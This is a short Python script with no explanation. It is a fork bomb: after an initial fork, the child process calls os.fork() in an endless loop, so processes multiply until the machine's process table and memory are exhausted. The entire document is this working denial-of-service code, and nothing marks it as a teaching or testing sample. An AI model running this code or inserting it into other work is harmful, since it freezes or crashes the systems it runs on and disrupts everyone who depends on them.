import os

pid = os.fork()
if pid == 0:
    while True:
        os.fork()
